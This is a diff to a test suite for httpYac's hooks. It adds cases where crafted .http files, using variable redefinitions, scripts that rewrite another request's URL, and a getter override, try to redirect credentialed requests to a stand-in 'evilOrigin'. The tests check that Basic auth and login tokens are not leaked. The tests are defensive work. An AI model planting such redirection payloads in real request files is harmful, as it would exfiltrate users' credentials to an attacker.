@@ -262,6 +262,37 @@ describe('the hooks in httpYac', function () {
     const rows: readonly (readonly [title: string, text: () => string])[] = [
       ['another host', () => `GET ${evilOrigin}${below}\n${header}`],
       ['a second value', () => `@h = ${origin}\n@h = ${evilOrigin}\nGET {{h}}${below}\n${header}`],
+      [
+        'a value below the request',
+        () => `@h = ${evilOrigin}\n\n###\nPOST {{h}}${below}\n${header}\n\n{}\n\n@h = ${origin}`,
+      ],
+      [
+        'a value between headers',
+        () => `@h = ${evilOrigin}\n\n###\nGET {{h}}${below}\n@h = ${origin}\n${header}`,
+      ],
+      [
+        'a value in a comment',
+        () => `@h = ${evilOrigin}\n/*\n@h = ${origin}\n*/\nGET {{h}}${below}\n${header}`,
+      ],
+      [
+        'a value in a block with a title',
+        () => `@h = ${evilOrigin}\n\n### A\n@h = ${origin}\n\n###\nGET {{h}}${below}\n${header}`,
+      ],
+      [
+        'a script that changes another request',
+        () =>
+          `{{\nhttpFile.httpRegions.find(each => each.request).request.url = '${evilOrigin}/x';\n}}\n\n###\nGET ${origin}${below}\n${header}`,
+      ],
+      [
+        'a function that gets the request',
+        () =>
+          `{{\nexports.f = sent => {\nsent.url = '${evilOrigin}/x';\nreturn 'a';\n};\n}}\n\n###\nPOST ${origin}${below}\n${header}\n\n{"a": "{{f(request)}}"}`,
+      ],
+      [
+        'a URL that is computed when it is read',
+        () =>
+          `GET ${origin}${below}\n${header}\nX-A: {{request.__defineGetter__('url', () => '${evilOrigin}/x')}}`,
+      ],
       ['a script', () => `{{\nexports.h = '${evilOrigin}';\n}}\nGET {{h}}${below}\n${header}`],
       ['an expression', () => `GET {{['${evilOrigin}'].join('')}}${below}\n${header}`],
       [
@@ -346,7 +377,9 @@ describe('the hooks in httpYac', function () {
         const encoded = Buffer.from(`me:${stale}`).toString('base64');
         assert.ok(!stolen.join('\n').includes(encoded), stolen.join('\n'));
         assert.ok(!stolen.join('\n').includes('hosted-login-token'), 'nor what stands for it');
-        if (!/client itself|Basic/.test(title)) assert.notEqual(refusals.length, 0, 'and it is told');
+        // A computed URL cannot be written, so nothing is sent.
+        if (!/client itself|Basic|computed/.test(title))
+          assert.notEqual(refusals.length, 0, 'and it is told');
         assert.deepEqual(warnings, []);
       });
     }
